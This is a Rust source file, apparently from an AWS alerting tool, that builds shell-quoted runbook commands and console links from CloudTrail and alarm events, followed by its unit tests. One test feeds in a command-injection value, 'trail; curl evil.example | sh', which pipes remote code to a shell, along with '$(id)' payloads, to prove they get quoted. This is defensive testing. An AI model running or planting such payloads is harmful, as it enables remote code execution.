    ("lookback_start", "<start-time>"),
];

// ----------------------------------------------------------------------------------- values

/// A filled-in value: `Plain` values come from events and are quoted; `Raw` ones are built
/// here from already-quoted parts (several shell words, like `--dimensions Name=..,Value=..`).
#[derive(Debug, Clone, PartialEq, Eq)]
enum Value {
    Plain(String),
    Raw(String),
}

/// The values known for one alert, by placeholder name.
#[derive(Debug, Default)]
struct Values {
    map: BTreeMap<&'static str, Value>,
}

impl Values {
    fn set(&mut self, name: &'static str, value: Option<&str>) {
        if let Some(v) = value.map(str::trim).filter(|v| is_real_value(v)) {
            self.map
                .entry(name)
                .or_insert_with(|| Value::Plain(v.to_owned()));
        }
    }

    fn raw(&mut self, name: &'static str, value: String) {
        self.map.insert(name, Value::Raw(value));
    }

    fn plain(&self, name: &str) -> Option<&str> {
        match self.map.get(name) {
            Some(Value::Plain(v)) => Some(v),
            _ => None,
        }
    }

    fn has(&self, name: &str) -> bool {
        self.map.contains_key(name)
    }
}

/// CloudTrail writes this in place of values it withholds; it is not a name.
fn is_real_value(v: &str) -> bool {
    !v.is_empty() && v != "HIDDEN_DUE_TO_SECURITY_REASONS"
}

fn request_str<'a>(change: &'a Change, key: &str) -> Option<&'a str> {
    change.request.get(key).and_then(serde_json::Value::as_str)
}

/// AWS Region codes are lowercase letters, digits and dashes (`us-east-1`, `us-gov-west-1`).
/// Checked because the Region becomes part of a console host name in links.
fn valid_region(s: &str) -> bool {
    (9..=25).contains(&s.len())
        && s.chars()
            .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || c == '-')
        && s.chars().next().is_some_and(|c| c.is_ascii_lowercase())
        && s.chars().last().is_some_and(|c| c.is_ascii_digit())
}

fn valid_account(s: &str) -> bool {
    s.len() == 12 && s.chars().all(|c| c.is_ascii_digit())
}

fn partition(region: Option<&str>) -> &'static str {
    match region {
        Some(r) if r.starts_with("cn-") => "aws-cn",
        Some(r) if r.starts_with("us-gov-") => "aws-us-gov",
        _ => "aws",
    }
}

/// The Region field of an ARN (`arn:partition:service:region:account:...`).
fn arn_region(arn: &str) -> Option<&str> {
    arn.split(':').nth(3).filter(|r| !r.is_empty())
}

fn is_role_arn(s: &str) -> bool {
    s.starts_with("arn:") && s.contains(":role/")
}

fn is_policy_arn(s: &str) -> bool {
    s.starts_with("arn:") && s.contains(":iam::") && s.contains(":policy/")
}

/// `functionName` may be a name, a partial ARN or a full ARN (with a qualifier); console
/// links need the bare name.
fn function_name(value: &str) -> &str {
    match value.split_once(":function:") {
        Some((_, rest)) => rest.split(':').next().unwrap_or(rest),
        None => value,
    }
}

/// A guardrail id from an id or an ARN (`arn:aws:bedrock:r:a:guardrail/ID`).
fn guardrail_id(value: &str) -> &str {
    match value.split_once(":guardrail/") {
        Some((_, id)) => id,
        None => value,
    }
}

/// Lambda logs versioned event names (`AddPermission20150331v2`); IAM actions have none.
fn strip_api_version(name: &str) -> &str {
    let without_v = match name.rfind('v') {
        Some(pos)
            if name
                .get(pos + 1..)
                .is_some_and(|d| !d.is_empty() && d.chars().all(|c| c.is_ascii_digit())) =>
        {
            name.get(..pos).unwrap_or(name)
        }
        _ => name,
    };
    let digits = without_v
        .chars()
        .rev()
        .take_while(char::is_ascii_digit)
        .count();
    if digits == 8 {
        without_v.get(..without_v.len() - 8).unwrap_or(name)
    } else {
        name
    }
}

/// The IAM action a CloudTrail event stands for: `iam:GetRole`, `lambda:AddPermission`.
fn iam_action(change: &Change) -> String {
    let prefix = match change.service() {
        "monitoring" => "cloudwatch",
        "email" => "ses",
        other => other,
    };
    format!("{prefix}:{}", strip_api_version(&change.event_name))
}

/// The metric runbook charts use: the first one with a namespace (metric math lists the
/// expression operands).
fn primary_metric(alert: &Alert) -> Option<&MetricRef> {
    let alarm = alert.alarm()?;
    alarm
        .metrics
        .iter()
        .find(|m| m.namespace.is_some())
        .or(alarm.metrics.first())
}

fn dimension<'a>(alert: &'a Alert, name: &str) -> Option<&'a str> {
    alert
        .alarm()?
        .metrics
        .iter()
        .find_map(|m| m.dimensions.get(name))
        .map(String::as_str)
}

/// `--statistics` for the five standard statistics (the SNS alarm form spells them in upper
/// case, `SUM`), `--extended-statistics` for percentiles and trimmed means (`p99`, `tm90`).
/// Anything else is left to the default of all three common statistics.
fn statistics_flag(stat: &str) -> Option<String> {
    let standard = match stat.to_ascii_lowercase().as_str() {
        "sum" => Some("Sum"),
        "average" | "avg" => Some("Average"),
        "maximum" | "max" => Some("Maximum"),
        "minimum" | "min" => Some("Minimum"),
        "samplecount" => Some("SampleCount"),
        _ => None,
    };
    if let Some(name) = standard {
        return Some(format!("--statistics {name}"));
    }
    let lower = stat.to_ascii_lowercase();
    let extended = ["p", "tm", "wm", "tc", "ts", "pr", "iqm"]
        .iter()
        .any(|prefix| {
            lower.strip_prefix(prefix).is_some_and(|rest| {
                (*prefix == "iqm" && rest.is_empty())
                    || rest.starts_with(|c: char| c.is_ascii_digit() || c == '(')
            })
        });
    extended.then(|| format!("--extended-statistics {}", shell_quote(stat)))
}

fn format_time(t: DateTime<Utc>) -> String {
    t.format("%Y-%m-%dT%H:%M:%SZ").to_string()
}

fn shifted(t: DateTime<Utc>, minutes: i64) -> DateTime<Utc> {
    t.checked_add_signed(Duration::minutes(minutes))
        .unwrap_or(t)
}

/// Role names the top cause touched: role ARNs, and for `*Role*` events (whose `roleName`
/// parameter is a plain name) the plain names among its resources that are not policies.
fn cause_roles(cause: &ProbableCause) -> Vec<&str> {
    let mut out: Vec<&str> = cause
        .resources
        .iter()
        .filter(|r| is_role_arn(r))
        .map(|r| last_segment(r))
        .collect();
    if cause.event_name.contains("Role") {
        out.extend(
            cause
                .resources
                .iter()
                .filter(|r| !r.starts_with("arn:"))
                .map(String::as_str),
        );
    }
    out
}

/// The role a runbook should name. The role the change touched wins when it is one the
/// alarm's resource runs as; then the change's role; then the resource's role; then the role
/// of a denied caller.
fn resolve_role(alert: &Alert, corr: &Correlation) -> Option<String> {
    if let Some(name) = alert.api_call().and_then(|c| request_str(c, "roleName")) {
        return Some(last_segment(name).to_owned());
    }
    let resource_roles: Vec<&str> = corr
        .resource_roles
        .iter()
        .map(|r| last_segment(r))
        .collect();
    let from_cause = corr.causes.first().map(cause_roles).unwrap_or_default();
    from_cause
        .iter()
        .find(|r| resource_roles.contains(r))
        .or(from_cause.first())
        .or(resource_roles.first())
        .map(|r| (*r).to_owned())
        .or_else(|| {
            corr.denied
                .iter()
                .find_map(|c| c.actor.role_arn.as_deref())
                .map(|arn| last_segment(arn).to_owned())
        })
}

fn collect_values(alert: &Alert, corr: &Correlation) -> Values {
    let mut v = Values::default();
    let change = alert.api_call();
    let alarm = alert.alarm();
    let config = alert.config();
    let cause = corr.causes.first();

    let region = alert
        .region
        .as_deref()
        .or(change.and_then(|c| c.region.as_deref()))
        .or(alarm.and_then(|a| a.arn.as_deref()).and_then(arn_region))
        .filter(|r| valid_region(r));
    v.set("region", region);
    let account = alert
        .account
        .as_deref()
        .or(change.and_then(|c| c.account.as_deref()))
        .filter(|a| valid_account(a));
    v.set("account", account);

    v.set(
        "event_id",
        change
            .map(|c| c.event_id.as_str())
            .or(cause.map(|c| c.event_id.as_str())),
    );
    v.set(
        "event_name",
        change
            .map(|c| c.event_name.as_str())
            .or(cause.map(|c| c.event_name.as_str())),
    );
    if let Some(c) = change {
        // LookupEvents' Username is the session name for assumed roles.
        v.set(
            "username",
            c.actor
                .session_name
                .as_deref()
                .or(Some(c.actor.name.as_str())),
        );
        v.set(
            "actor_arn",
            c.actor.role_arn.as_deref().or(c.actor.arn.as_deref()),
        );
        v.set("action", Some(&iam_action(c)));
        v.set("service_code", Some(c.service()));
        for (name, key) in [
            ("policy_arn", "policyArn"),
            ("policy_name", "policyName"),
            ("user", "userName"),
            ("group", "groupName"),
            ("model_id", "modelId"),
            ("guardrail_version", "guardrailVersion"),
            ("trail", "name"),
            ("trail", "trailName"),
            ("recorder", "configurationRecorderName"),
            ("function", "functionName"),
            ("function", "functionArn"),
            ("table", "tableName"),
            ("bucket", "bucketName"),
            ("statement_id", "statementId"),
        ] {
            // `name` means the trail only for CloudTrail calls; elsewhere it names other things.
            if key == "name" && c.service() != "cloudtrail" {
                continue;
            }
            v.set(name, request_str(c, key));
        }
        v.set(
            "guardrail_id",
            request_str(c, "guardrailIdentifier")
                .or(request_str(c, "guardrailId"))
                .map(guardrail_id),
        );
    } else if let Some(cause) = cause {
        v.set("username", Some(last_segment(&cause.actor)));
    }
    if let Some(denied) = corr.denied.first() {
        v.set("action", Some(&iam_action(denied)));
    }

    v.set("role", resolve_role(alert, corr).as_deref());
    let role_arn = corr
        .denied
        .iter()
        .find_map(|c| c.actor.role_arn.clone())
        .or_else(|| corr.resource_roles.iter().find(|r| is_role_arn(r)).cloned())
        .or_else(|| {
            let role = v.plain("role")?;
            let account = v.plain("account")?;
            Some(format!(
                "arn:{}:iam::{account}:role/{role}",
                partition(v.plain("region"))
            ))
        });
    v.set("role_arn", role_arn.as_deref());

    if let Some(cause) = cause {
        v.set(
            "policy_arn",
            cause
                .resources
                .iter()
                .find(|r| is_policy_arn(r))
                .map(String::as_str),
        );
        v.set(
            "guardrail_id",
            cause
                .resources
                .iter()
                .find(|r| r.contains(":guardrail/"))
                .map(|r| guardrail_id(r)),
        );
        v.set(
            "trail",
            cause
                .resources
                .iter()
                .find(|r| r.starts_with("arn:") && r.contains(":trail/"))
                .map(String::as_str),
        );
    }

    if let Some(a) = alarm {
        v.set("alarm", Some(&a.name));
        v.set("model_id", dimension(alert, "ModelId"));
        v.set(
            "guardrail_id",
            dimension(alert, "GuardrailArn").map(guardrail_id),
        );
        v.set("guardrail_version", dimension(alert, "GuardrailVersion"));
        v.set("function", dimension(alert, "FunctionName"));
        v.set("table", dimension(alert, "TableName"));
        v.set("bucket", dimension(alert, "BucketName"));
    }
    if let Some(m) = primary_metric(alert) {
        v.set("namespace", m.namespace.as_deref());
        v.set("metric", Some(&m.name));
        v.set("period", Some(&m.period.unwrap_or(300).to_string()));
        let dims: Vec<String> = m
            .dimensions
            .iter()
            .map(|(k, val)| format!("Name={},Value={}", shell_quote(k), shell_quote(val)))
            .collect();
        if !dims.is_empty() {
            v.raw(
                "dimensions_flag",
                format!("--dimensions {}", dims.join(" ")),
            );
        }
        if let Some(flag) = m.stat.as_deref().and_then(statistics_flag) {
            v.raw("statistics_flag", flag);
        }
    }
    if let Some(c) = config {
        v.set("config_rule", c.rule_name.as_deref());
        // Not a placeholder: gates the steps that only make sense for a failing rule.
        if c.rule_name.is_some() && c.compliance.as_deref() == Some("NON_COMPLIANT") {
            v.set("non_compliant", Some("NON_COMPLIANT"));
        }
        v.set("resource_type", c.resource_type.as_deref());
        v.set("resource_id", c.resource_id.as_deref());
        let name = c.resource_name.as_deref().or(c.resource_id.as_deref());
        match c.resource_type.as_deref() {
            Some("AWS::Lambda::Function") => v.set("function", name),
            Some("AWS::S3::Bucket") => v.set("bucket", name),
            Some("AWS::IAM::Role") => v.set("role", c.resource_name.as_deref()),
            _ => {}
        }
    }

    v.set("start", Some(&format_time(shifted(alert.time, -180))));
    v.set("end", Some(&format_time(shifted(alert.time, 60))));
    v.set(
        "lookback_start",
        Some(&format_time(shifted(alert.time, -60))),
    );
    v
}

// ----------------------------------------------------------------------------------- rendering

/// Quotes a value for a POSIX shell. Values made only of characters that are never special
/// stay bare so commands read naturally; anything else is single-quoted, with embedded quotes
/// closed, escaped and reopened, so no event value can add shell syntax.
pub fn shell_quote(value: &str) -> String {
    let safe = |c: char| c.is_ascii_alphanumeric() || "@%+=:,./_-".contains(c);
    if !value.is_empty() && value.chars().all(safe) {
        value.to_owned()
    } else {
        format!("'{}'", value.replace('\'', r"'\''"))
    }
}

/// Percent-encodes everything but RFC 3986 unreserved characters.
fn url_encode(value: &str) -> String {
    let mut out = String::with_capacity(value.len());
    for byte in value.bytes() {
        if byte.is_ascii_alphanumeric() || matches!(byte, b'-' | b'_' | b'.' | b'~') {
            out.push(char::from(byte));
        } else {
            out.push_str(&format!("%{byte:02X}"));
        }
    }
    out
}

/// A `{name}` placeholder at the start of `text`: its name and the text after it. Anything
/// else that starts with `{` (JSON in a command) is literal.
fn placeholder(text: &str) -> Option<(&str, &str)> {
    let body = text.strip_prefix('{')?;
    let close = body.find('}')?;
    let name = body.get(..close)?;
    if name.is_empty() || !name.chars().all(|c| c.is_ascii_lowercase() || c == '_') {
        return None;
    }
    Some((name, body.get(close + 1..)?))
}

/// Fills `template`; `fill` turns a placeholder name into its text, `None` aborting.
fn expand(template: &str, mut fill: impl FnMut(&str) -> Option<String>) -> Option<String> {
    let mut out = String::with_capacity(template.len() + 32);
    let mut rest = template;
    while let Some(open) = rest.find('{') {
        let (before, from_brace) = rest.split_at(open);
        out.push_str(before);
        match placeholder(from_brace) {
            Some((name, after)) => {
                let text = fill(name)?;
                // An empty optional flag would leave a double space behind.
                rest = if text.is_empty() {
                    after.strip_prefix(' ').unwrap_or(after)
                } else {
                    after
                };
                out.push_str(&text);
            }
            None => {
                out.push('{');
                rest = from_brace.get(1..).unwrap_or("");
            }
        }
    }
    out.push_str(rest);
    Some(out)
}

fn hint(name: &str) -> String {
    PLACEHOLDERS
        .iter()
        .find(|(n, _)| *n == name)
        .map(|(_, h)| (*h).to_owned())
        .unwrap_or_else(|| format!("<{}>", name.replace('_', "-")))
}

fn render_command(template: &str, values: &Values) -> String {
    expand(template, |name| {
        Some(match values.map.get(name) {
            Some(Value::Plain(v)) => shell_quote(v),
            Some(Value::Raw(v)) => v.clone(),
            None => hint(name),
        })
    })
    .unwrap_or_else(|| template.to_owned())
}

/// A link only when every value is known: a console URL with a hole in it is worse than none.
fn render_link(template: &str, values: &Values) -> Option<String> {
    expand(template, |name| values.plain(name).map(url_encode))
}

fn glob_any(globs: &[&str], value: &str) -> bool {
    globs
        .iter()
        .any(|g| wildmatch::WildMatch::new(g).matches(value))
}

fn fits(when: &When, alert: &Alert, corr: &Correlation) -> bool {
    let on_ok = match when.on {
        On::Any => true,
        On::Alarm => alert.alarm().is_some(),
        On::ApiCall => alert.api_call().is_some(),
        On::Config => alert.config().is_some(),
    };
    let (source, event_name) = match (alert.api_call(), corr.causes.first()) {
        (Some(c), _) => (Some(c.event_source.as_str()), Some(c.event_name.as_str())),
        (None, Some(cause)) => (
            Some(cause.event_source.as_str()),
            Some(cause.event_name.as_str()),
        ),
        (None, None) => (None, None),
    };
    let metrics = alert
        .alarm()
        .map(|a| a.metrics.as_slice())
        .unwrap_or_default();
    on_ok
        && (when.sources.is_empty() || source.is_some_and(|s| glob_any(when.sources, s)))
        && (when.events.is_empty() || event_name.is_some_and(|e| glob_any(when.events, e)))
        && (when.namespaces.is_empty()
            || metrics
                .iter()
                .filter_map(|m| m.namespace.as_deref())
                .any(|ns| glob_any(when.namespaces, ns)))
        && (when.metrics.is_empty() || metrics.iter().any(|m| glob_any(when.metrics, &m.name)))
}

/// The team's own runbook page for this kind: `{kind}` in the base URL is replaced, otherwise
/// the kind is appended as a path segment.
fn team_runbook_url(base: &str, kind: Kind) -> String {
    if base.contains("{kind}") {
        base.replace("{kind}", kind.as_str())
    } else {
        format!("{}/{}", base.trim_end_matches('/'), kind.as_str())
    }
}

/// Runbook steps for `kind`, filled with values from the alert and its top probable cause.
///
/// The team's runbook page (from the route's `runbook_base_url`) comes first when there is
/// one: it is the procedure the owners chose. Commands are for a person to run; values are
/// shell-quoted and unknown ones shown as `<placeholder>`.
pub fn runbook(
    kind: Kind,
    alert: &Alert,
    correlation: &Correlation,
    runbook_base_url: Option<&str>,
) -> Vec<RunbookStep> {
    let values = collect_values(alert, correlation);
    let mut steps = Vec::new();
    if let Some(base) = runbook_base_url.map(str::trim).filter(|b| !b.is_empty()) {
        steps.push(RunbookStep {
            title: format!("Follow the team runbook for {kind}"),
            command: None,
            link: Some(team_runbook_url(base, kind)),
        });
    }
    let playbook = tables(kind)
        .iter()
        .flat_map(|table| table.iter())
        .find(|p| fits(&p.when, alert, correlation));
    if let Some(playbook) = playbook {
        for step in playbook.steps {
            if step.only_if.is_some_and(|name| !values.has(name)) {
                continue;
            }
            steps.push(RunbookStep {
                title: step.title.to_owned(),
                command: step.command.map(|c| render_command(c, &values)),
                link: step.link.and_then(|l| render_link(l, &values)),
            });
        }
    }
    steps
}

/// Console deep links for the alert: the alarm, the CloudTrail event (and the top probable
/// causes), and the IAM role, Lambda function, Bedrock guardrail, S3 bucket or Config rule
/// involved. A link is only given when its Region and identifier are known.
pub fn links(alert: &Alert, correlation: &Correlation) -> Vec<Link> {
    let values = collect_values(alert, correlation);
    let region = values.plain("region");
    let mut out: Vec<Link> = Vec::new();
    let mut push = |label: String, url: Option<String>| {
        if let Some(url) = url
            && !out.iter().any(|l| l.url == url)
        {
            out.push(Link { label, url });
        }
    };

    if let Some(alarm) = alert.alarm() {
        push(
            format!("CloudWatch alarm {}", alarm.name),
            region.map(|r| {
                format!(
                    "https://{r}.console.aws.amazon.com/cloudwatch/home?region={r}#alarmsV2:alarm/{}",
                    url_encode(&alarm.name)
                )
            }),
        );
    }
    let event_url = |event_id: &str, event_region: Option<&str>| {
        event_region.filter(|r| valid_region(r)).map(|r| {
            format!(
                "https://{r}.console.aws.amazon.com/cloudtrailv2/home?region={r}#/events/{}",
                url_encode(event_id)
            )
        })
    };
    if let Some(change) = alert.api_call() {
        push(
            format!("CloudTrail event {}", change.event_name),
            event_url(&change.event_id, change.region.as_deref().or(region)),
        );
    }
    for cause in correlation.causes.iter().take(3) {
        let url = cause
            .console_link
            .clone()
            .filter(|l| l.starts_with("https://"))
            .or_else(|| event_url(&cause.event_id, region));
        push(
            format!("CloudTrail event {} by {}", cause.event_name, cause.actor),
            url,
        );
    }
    if let Some(role) = values.plain("role") {
        push(
            format!("IAM role {role}"),
            Some(format!(
                "https://console.aws.amazon.com/iam/home#/roles/details/{}",
                url_encode(role)
            )),
        );
    }
    if let (Some(r), Some(function)) = (region, values.plain("function")) {
        let name = function_name(function);
        push(
            format!("Lambda function {name}"),
            Some(format!(
                "https://{r}.console.aws.amazon.com/lambda/home?region={r}#/functions/{}",
                url_encode(name)
            )),
        );
    }
    if let (Some(r), Some(id)) = (region, values.plain("guardrail_id")) {
        // The guardrail's own page is addressed by name and id; the name is usually not in
        // the event (CloudTrail hides it), so fall back to the guardrail list.
        let name = alert
            .api_call()
            .filter(|c| c.event_name.contains("Guardrail"))
            .and_then(|c| request_str(c, "name"))
            .filter(|n| is_real_value(n));
        let url = match name {
            Some(name) => format!(
                "https://{r}.console.aws.amazon.com/bedrock/home?region={r}#/guardrails/guardrail/{}/{}",
                url_encode(name),
                url_encode(id)
            ),
            None => {
                format!("https://{r}.console.aws.amazon.com/bedrock/home?region={r}#/guardrails")
            }
        };
        push(format!("Bedrock guardrail {id}"), Some(url));
    }
    if let Some(bucket) = values.plain("bucket") {
        push(
            format!("S3 bucket {bucket}"),
            Some(format!(
                "https://s3.console.aws.amazon.com/s3/buckets/{}?tab=permissions",
                url_encode(bucket)
            )),
        );
    }
    if let (Some(r), Some(rule)) = (region, values.plain("config_rule")) {
        push(
            format!("Config rule {rule}"),
            Some(format!(
                "https://{r}.console.aws.amazon.com/config/home?region={r}#/rules/details?configRuleName={}",
                url_encode(rule)
            )),
        );
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::model::{
        Actor, Alarm, AlarmState, AlarmType, AlertBody, ConfigChange, ConfigChangeKind, InputFamily,
    };
    use chrono::TimeZone;

    fn t0() -> DateTime<Utc> {
        Utc.with_ymd_and_hms(2025, 3, 4, 10, 30, 0)
            .single()
            .unwrap_or_default()
    }

    fn alarm_alert(ns: &str, metric: &str, dims: &[(&str, &str)]) -> Alert {
        Alert {
            id: "a-1".to_owned(),
            input: InputFamily::AlarmEventbridge,
            account: Some("123456789012".to_owned()),
            region: Some("us-east-1".to_owned()),
            time: t0(),
            body: AlertBody::Alarm(Alarm {
                name: "tool errors / prod".to_owned(),
                arn: None,
                description: None,
                alarm_type: AlarmType::Metric,
                state: AlarmState::Alarm,
                previous_state: Some(AlarmState::Ok),
                reason: String::new(),
                metrics: vec![MetricRef {
                    namespace: Some(ns.to_owned()),
                    name: metric.to_owned(),
                    dimensions: dims
                        .iter()
                        .map(|(k, v)| ((*k).to_owned(), (*v).to_owned()))
                        .collect(),
                    stat: Some("Sum".to_owned()),
                    period: Some(60),
                }],
                expression: None,
                alarm_rule: None,
                triggering_alarms: Vec::new(),
                threshold: Some(1.0),
                comparison: None,
                recent_datapoints: Vec::new(),
                tags: BTreeMap::new(),
            }),
        }
    }

    fn api_alert(source: &str, name: &str, request: &[(&str, &str)]) -> Alert {
        Alert {
            id: "ev-1".to_owned(),
            input: InputFamily::Cloudtrail,
            account: Some("123456789012".to_owned()),
            region: Some("eu-west-1".to_owned()),
            time: t0(),
            body: AlertBody::ApiCall(Change {
                event_id: "3f1c0a2e-1111-2222-3333-444455556666".to_owned(),
                event_name: name.to_owned(),
                event_source: source.to_owned(),
                time: t0(),
                region: Some("eu-west-1".to_owned()),
                account: Some("123456789012".to_owned()),
                actor: Actor {
                    identity_type: Some("AssumedRole".to_owned()),
                    arn: Some("arn:aws:sts::123456789012:assumed-role/ops/mallory".to_owned()),
                    name: "ops/mallory".to_owned(),
                    role_arn: Some("arn:aws:iam::123456789012:role/ops".to_owned()),
                    session_name: Some("mallory".to_owned()),
                    invoked_by: None,
                },
                source_ip: None,
                user_agent: None,
                read_only: false,
                error_code: None,
                error_message: None,
                request: request
                    .iter()
                    .map(|(k, v)| ((*k).to_owned(), serde_json::Value::String((*v).to_owned())))
                    .collect(),
                resources: Vec::new(),
                facts: Default::default(),
            }),
        }
    }

    fn detach_cause() -> ProbableCause {
        ProbableCause {
            event_id: "9d8e7f60-aaaa-bbbb-cccc-ddddeeeeffff".to_owned(),
            event_name: "DetachRolePolicy".to_owned(),
            event_source: "iam.amazonaws.com".to_owned(),
            actor: "admin/alice".to_owned(),
            time: t0(),
            source_ip: None,
            user_agent: None,
            reason: "changed 4 min before the alarm".to_owned(),
            score: 90,
            resources: vec![
                "arn:aws:iam::123456789012:policy/tool-bedrock-invoke".to_owned(),
                "tool-role".to_owned(),
            ],
            console_link: None,
        }
    }

    fn commands(steps: &[RunbookStep]) -> Vec<String> {
        steps.iter().filter_map(|s| s.command.clone()).collect()
    }

    #[test]
    fn access_denied_after_detach_role_policy_fills_role_event_and_policy() {
        let alert = alarm_alert("AWS/Lambda", "Errors", &[("FunctionName", "tool-fn")]);
        let corr = Correlation {
            causes: vec![detach_cause()],
            resource_roles: ["arn:aws:iam::123456789012:role/tool-role".to_owned()]
                .into_iter()
                .collect(),
            ..Correlation::default()
        };
        let steps = runbook(Kind::AccessDenied, &alert, &corr, None);
        let cmds = commands(&steps);
        assert_eq!(
            cmds,
            vec![
                "aws iam list-attached-role-policies --role-name tool-role".to_owned(),
                "aws cloudtrail lookup-events --lookup-attributes AttributeKey=EventId,AttributeValue=9d8e7f60-aaaa-bbbb-cccc-ddddeeeeffff --region us-east-1".to_owned(),
                "aws iam attach-role-policy --role-name tool-role --policy-arn arn:aws:iam::123456789012:policy/tool-bedrock-invoke".to_owned(),
            ]
        );
        assert!(
            steps
                .iter()
                .any(|s| s.title.starts_with("Fix (run by a person)"))
        );
        assert_eq!(
            steps.get(1).and_then(|s| s.link.clone()).as_deref(),
            Some(
                "https://us-east-1.console.aws.amazon.com/cloudtrailv2/home?region=us-east-1#/events/9d8e7f60-aaaa-bbbb-cccc-ddddeeeeffff"
            )
        );
    }

    #[test]
    fn bedrock_throttle_steps_name_the_model() {
        let alert = alarm_alert(
            "AWS/Bedrock",
            "InvocationThrottles",
            &[("ModelId", "us.anthropic.claude-3-5-sonnet-20241022-v2:0")],
        );
        let cmds = commands(&runbook(
            Kind::ThrottleSpike,
            &alert,
            &Correlation::default(),
            None,
        ));
        assert!(cmds.iter().any(|c| {
            c.starts_with("aws service-quotas list-service-quotas --service-code bedrock --query")
        }));
        assert!(
            cmds.iter().any(|c| c.contains(
                "--metric-name InvocationThrottles --dimensions Name=ModelId,Value=us.anthropic.claude-3-5-sonnet-20241022-v2:0 --start-time 2025-03-04T07:30:00Z --end-time 2025-03-04T11:30:00Z"
            )),
            "{cmds:#?}"
        );
        // No cause: no "see the change" step with a hole in it.
        assert!(!cmds.iter().any(|c| c.contains("<event-id>")));
    }

    #[test]
    fn injection_surge_names_guardrail_and_version_from_dimensions() {
        let alert = alarm_alert(
            "AWS/Bedrock/Guardrails",
            "InvocationsIntervened",
            &[
                (
                    "GuardrailArn",
                    "arn:aws:bedrock:us-east-1:123456789012:guardrail/abcd1234efgh",
                ),
                ("GuardrailVersion", "3"),
                ("GuardrailContentSource", "Input"),
            ],
        );
        let cmds = commands(&runbook(
            Kind::InjectionSurge,
            &alert,
            &Correlation::default(),
            None,
        ));
        assert!(
            cmds.iter().any(|c| c.starts_with(
                "aws bedrock get-guardrail --guardrail-identifier abcd1234efgh --guardrail-version 3"
            )),
            "{cmds:#?}"
        );
        // The chart uses the alarm's own dimensions, each value quoted as needed.
        assert!(
            cmds.iter().any(|c| c.contains("--namespace AWS/Bedrock/Guardrails --metric-name InvocationsIntervened --dimensions Name=GuardrailArn,Value=arn:aws:bedrock:us-east-1:123456789012:guardrail/abcd1234efgh Name=GuardrailContentSource,Value=Input Name=GuardrailVersion,Value=3 --start-time")
                && c.contains("--period 60 --statistics Sum --region us-east-1")),
            "{cmds:#?}"
        );
    }

    #[test]
    fn stop_logging_steps_check_and_restart_the_trail() {
        let alert = api_alert(
            "cloudtrail.amazonaws.com",
            "StopLogging",
            &[("name", "org-trail")],
        );
        let cmds = commands(&runbook(
            Kind::AuditTampering,
            &alert,
            &Correlation::default(),
            None,
        ));
        assert_eq!(
            cmds.first().map(String::as_str),
            Some("aws cloudtrail get-trail-status --name org-trail --region eu-west-1")
        );
        assert!(cmds.contains(
            &"aws cloudtrail start-logging --name org-trail --region eu-west-1".to_owned()
        ));
        assert!(
            cmds.iter()
                .any(|c| c.contains("AttributeKey=Username,AttributeValue=mallory"))
        );
    }

    #[test]
    fn missing_values_are_visible_placeholders() {
        let alert = api_alert("cloudtrail.amazonaws.com", "StopLogging", &[]);
        let cmds = commands(&runbook(
            Kind::AuditTampering,
            &alert,
            &Correlation::default(),
            None,
        ));
        assert_eq!(
            cmds.first().map(String::as_str),
            Some("aws cloudtrail get-trail-status --name <trail-name> --region eu-west-1")
        );
        let alarm = alarm_alert("AWS/Lambda", "Errors", &[]);
        let cmds = commands(&runbook(
            Kind::AccessDenied,
            &alarm,
            &Correlation::default(),
            None,
        ));
        assert!(
            cmds.iter()
                .any(|c| c == "aws iam list-attached-role-policies --role-name <role-name>"),
            "{cmds:#?}"
        );
    }

    #[test]
    fn event_values_are_shell_quoted() {
        let alert = api_alert(
            "cloudtrail.amazonaws.com",
            "StopLogging",
            &[("name", "trail; curl evil.example | sh")],
        );
        let cmds = commands(&runbook(
            Kind::AuditTampering,
            &alert,
            &Correlation::default(),
            None,
        ));
        assert_eq!(
            cmds.first().map(String::as_str),
            Some(
                "aws cloudtrail get-trail-status --name 'trail; curl evil.example | sh' --region eu-west-1"
            )
        );
        assert_eq!(shell_quote("it's"), r"'it'\''s'");
        assert_eq!(shell_quote("$(id)"), "'$(id)'");
        assert_eq!(shell_quote("`id`"), "'`id`'");
        assert_eq!(shell_quote(""), "''");
        assert_eq!(
            shell_quote("arn:aws:iam::1:role/x"),
            "arn:aws:iam::1:role/x"
        );
    }

    #[test]
    fn braces_inside_values_are_not_expanded_again() {
        let alert = api_alert(
            "cloudtrail.amazonaws.com",
            "StopLogging",
            &[("name", "{region}")],
        );
        let cmds = commands(&runbook(
            Kind::AuditTampering,
            &alert,
            &Correlation::default(),
            None,
        ));
        assert_eq!(
            cmds.first().map(String::as_str),
            Some("aws cloudtrail get-trail-status --name '{region}' --region eu-west-1")
        );
    }

    #[test]
    fn json_in_a_template_is_left_alone() {
        let alert = api_alert(
            "cloudtrail.amazonaws.com",
            "PutEventSelectors",
            &[("trailName", "org-trail")],
        );
        let cmds = commands(&runbook(
            Kind::AuditTampering,
            &alert,
            &Correlation::default(),
            None,
        ));
        assert!(cmds.iter().any(|c| c.contains(
            "--trail-name org-trail --event-selectors '[{\"ReadWriteType\":\"All\",\"IncludeManagementEvents\":true}]'"
        )), "{cmds:#?}");
    }

    #[test]
    fn public_lambda_permission_fix_names_the_statement() {
        let alert = api_alert(
            "lambda.amazonaws.com",
            "AddPermission20150331v2",
            &[
                ("functionName", "stratus-func"),
                ("statementId", "backdoor"),
            ],
        );
        let cmds = commands(&runbook(
            Kind::PublicExposure,
            &alert,
            &Correlation::default(),
            None,
        ));
        assert!(cmds.contains(
            &"aws lambda remove-permission --function-name stratus-func --statement-id backdoor --region eu-west-1".to_owned()
        ));
    }

    #[test]
    fn denied_api_call_simulates_the_action_without_api_version() {
        let alert = api_alert("lambda.amazonaws.com", "GetFunction20150331v2", &[]);
        let cmds = commands(&runbook(
            Kind::AccessDenied,
            &alert,
            &Correlation::default(),
            None,
        ));
        assert!(cmds.contains(
            &"aws iam simulate-principal-policy --policy-source-arn arn:aws:iam::123456789012:role/ops --action-names lambda:GetFunction".to_owned()
        ), "{cmds:#?}");
    }

    #[test]
    fn statistics_flags_follow_the_alarm_statistic() {
        assert_eq!(statistics_flag("SUM").as_deref(), Some("--statistics Sum"));
        assert_eq!(
            statistics_flag("Average").as_deref(),
            Some("--statistics Average")
        );
        assert_eq!(
            statistics_flag("p99").as_deref(),
            Some("--extended-statistics p99")
        );
        assert_eq!(
            statistics_flag("tm(10%:90%)").as_deref(),
            Some("--extended-statistics 'tm(10%:90%)'")
        );
        assert_eq!(statistics_flag("weird"), None);
    }

    #[test]
